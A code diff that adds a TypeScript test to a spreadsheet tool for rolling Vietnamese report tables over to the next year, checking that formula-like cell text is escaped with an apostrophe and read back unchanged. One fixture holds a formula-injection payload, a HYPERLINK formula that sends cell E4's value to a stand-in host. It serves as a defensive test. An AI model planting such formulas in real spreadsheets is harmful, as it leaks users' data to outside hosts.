@@ -94,3 +94,28 @@ describe("roll-over: next year's table from this one", () => {
     expect(shiftYears("Nhiệm kỳ 2020-2025, 123 456")).toBe("Nhiệm kỳ 2021-2026, 123 456");
   });
 });
+
+test("a person's texts that start like formulas are written as texts, read back as typed", () => {
+  const grid: CellValue[][] = [
+    ["Kết quả năm 2021"],
+    ["'Đơn vị: phường 7"],
+    ["STT", "Chỉ tiêu", "ĐVT", "Kế hoạch", "Thực hiện", "Cùng kỳ", "Ghi chú"],
+    [1, '=HYPERLINK("http://x.example/?x="&E4,"Bấm")', "doanh nghiệp", 150, 176, 160, "+84 so với năm trước"],
+    [2, "- Trong đó: doanh nghiệp nữ làm chủ", "doanh nghiệp", 20, 25, 18, "'ghi chú"],
+  ];
+  const r = rollover(grid, readTable(grid, { convention: "vi" }), DEFAULT_SETTINGS);
+  const contents = r.plan.blocks[0]!.contents;
+  expect(contents[3]!.slice(1, 3)).toEqual(['\'=HYPERLINK("http://x.example/?x="&E4,"Bấm")', "doanh nghiệp"]);
+  expect([contents[1]![0], contents[4]![1]]).toEqual([
+    "''Đơn vị: phường 7",
+    "'- Trong đó: doanh nghiệp nữ làm chủ",
+  ]);
+  // The grid read back is the table as typed, no apostrophes added.
+  const names = readTable(r.grid, { convention: "vi" }).table.groups.flatMap((g) =>
+    g.rows.map((x) => x.name),
+  );
+  expect(names).toEqual([
+    '=HYPERLINK("http://x.example/?x="&E4,"Bấm")',
+    "- Trong đó: doanh nghiệp nữ làm chủ",
+  ]);
+});
